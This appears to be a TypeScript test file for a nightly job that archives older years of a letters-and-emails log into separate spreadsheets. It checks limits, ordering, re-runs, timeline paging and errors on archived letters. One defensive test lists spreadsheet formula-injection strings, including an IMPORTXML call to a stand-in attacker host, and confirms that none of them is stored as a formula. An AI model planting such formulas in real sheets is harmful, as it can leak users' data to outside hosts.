/** Older years of the log go to spreadsheets of their own, whole and as they were. */
import { isFormula } from "../../local/sheets/model";
import {
	aLetter,
	asha,
	letters,
	nightly,
	oak,
	received,
	standing,
	state,
} from "./aMailbox";
import { anOfficeWith, archives, books, kept, of, timeline } from "./anArchive";

test("while the log is not longer than it may be, nothing goes", async () => {
	const office = await anOfficeWith(6, ...of(2023, 3), ...of(2026, 3));
	nightly(office);
	expect(books(office)).toEqual([]);
	expect(letters(office)).toHaveLength(6);
});

test("over that, every year before last goes whole, in its order and unchanged", async () => {
	const office = await anOfficeWith(
		6,
		...of(2023, 2),
		...of(2025, 2),
		...of(2024, 3),
		...of(2026, 2),
		...of(2023, 1),
	);
	const before = letters(office);
	const year = (which: number) =>
		before.filter((row) => String(row.Date).startsWith(String(which)));
	nightly(office);
	expect(archives(office)).toEqual({
		"Letters and emails 2023": year(2023),
		"Letters and emails 2024": year(2024),
	});
	expect(letters(office)).toEqual([...year(2025), ...year(2026)]);
	expect(kept(office).map((one) => [one.year, one.rows])).toEqual([
		[2023, 3],
		[2024, 3],
	]);
	expect(state(office, "mail")).toMatchObject({ live: 4, logged: 10 });
	expect(standing(office).looked).toBe(10);
});

test("a log that this year alone makes long is gone through once a month, not every night", async () => {
	const office = await anOfficeWith(3, ...of(2026, 6));
	const reads = () => {
		const { calls } = office.google.run("nightly") as unknown as {
			calls: readonly { service: string; method: string }[];
		};
		return calls.filter(({ method }) => method.startsWith("batch")).length;
	};
	const first = reads();
	const second = reads();
	expect(second).toBeLessThan(first);
	office.google.workspace.state.now += 10 * 86_400_000;
	expect(reads()).toBe(first);
	expect(letters(office)).toHaveLength(6);
});

test("last year goes too if that is not enough; this year never does", async () => {
	const office = await anOfficeWith(
		3,
		...of(2024, 2),
		...of(2025, 2),
		...of(2026, 5),
	);
	nightly(office);
	expect(Object.keys(archives(office))).toEqual([
		"Letters and emails 2024",
		"Letters and emails 2025",
	]);
	expect(letters(office)).toHaveLength(5);
	nightly(office);
	nightly(office);
	expect(letters(office)).toHaveLength(5);
	expect(books(office)).toHaveLength(2);
});

test("run again, nothing is changed; what comes later is added below", async () => {
	const office = await anOfficeWith(4, ...of(2024, 3), ...of(2026, 2));
	nightly(office);
	const first = archives(office);
	nightly(office);
	expect(archives(office)).toEqual(first);
	await received(office, ...of(2024, 2), ...of(2026, 2));
	const late = letters(office).filter((row) => String(row.Date) < "2025");
	nightly(office);
	expect(archives(office)).toEqual({
		"Letters and emails 2024": [
			...(first["Letters and emails 2024"] ?? []),
			...late,
		],
	});
	expect(kept(office)).toMatchObject([{ year: 2024, rows: 5 }]);
});

test("hostile texts go unchanged, and none becomes a formula", async () => {
	const texts = [
		'=IMPORTXML("https://evil.example","//a")',
		"+44 20 7946 0000",
		"@SUM(1+9)",
		"-2*3",
		"'quoted",
		"0123",
		"1/1/2026",
		"TRUE",
		"5%",
		"{{partnerName}} $&",
		"Zoë 👩‍👩‍👧 漢字",
	];
	const office = await anOfficeWith(
		1,
		...texts.map((subject) => aLetter({ subject, at: "2024-05-01T09:00:00Z" })),
	);
	const before = letters(office);
	nightly(office);
	expect(archives(office)).toEqual({ "Letters and emails 2024": before });
	expect(before.map((row) => row.Subject)).toEqual(texts);
	const cells = books(office).flatMap(({ tabs }) =>
		tabs.flatMap(({ rows }) => rows.flat()),
	);
	expect(cells.some((cell) => isFormula(cell?.value))).toBe(false);
});

test("the timeline finds them by their year, filtered and page by page", async () => {
	const moments = Array.from(
		{ length: 45 },
		(_, n) => 1_700_000_000_000 + n * 60_000,
	);
	const office = await anOfficeWith(
		10,
		...moments.map((at) => aLetter({ at: new Date(at).toISOString() })),
		...of(2026, 2),
	);
	nightly(office);
	const now = timeline(office, {});
	expect({ years: now.years, lines: now.lines.length }).toEqual({
		years: [2023],
		lines: 2,
	});
	const first = timeline(office, { year: 2023 });
	expect(first).toMatchObject({ more: true });
	const before = first.lines.at(-1)?.at ?? "";
	const second = timeline(office, { year: 2023, before });
	const lines = [...first.lines, ...second.lines];
	expect([first.lines.length, second.lines.length]).toEqual([40, 5]);
	expect(new Set(lines.map(({ ref }) => ref)).size).toBe(45);
	expect(lines.every(({ row, open }) => row === 0 && open !== "")).toBe(true);
	expect(timeline(office, { year: 2023, show: "Emails out" }).lines).toEqual(
		[],
	);
	expect(
		timeline(office, { year: 2023, place: { ref: "P-0002", row: 3 } }).lines,
	).toEqual([]);
});

test("a letter that went there is not changed any more, and that is said", async () => {
	const office = await anOfficeWith(1, ...of(2024, 2));
	nightly(office);
	const values = { partners: ["P-0001"], subject: "x", class: "Internal" };
	expect(() =>
		office.ask("changeLetter", {
			as: asha,
			place: { ref: "E-0001", row: 2 },
			opened: values,
			values: { ...values, subject: "" },
		}),
	).toThrow("Perhaps it went to the archive. Nothing was changed.");
});

test("last contact stays when all of a partner's letters went to an archive", async () => {
	const office = await anOfficeWith(1, ...of(2024, 2));
	nightly(office);
	const { undo } = office.ask("noteMeeting", {
		as: asha,
		place: oak,
		values: { on: "2024-01-01", kind: "Call", who: "Sam" },
	});
	expect(office.row("Partners", oak.ref)["Last contact"]).toBe("2024-11-02");
	expect(undo).not.toBeNull();
});

test("a limit of nought still leaves this year where it is", async () => {
	const office = await anOfficeWith(0, ...of(2025, 2), ...of(2026, 2));
	nightly(office);
	expect(archives(office)["Letters and emails 2025"]).toHaveLength(2);
	expect(letters(office)).toHaveLength(2);
});
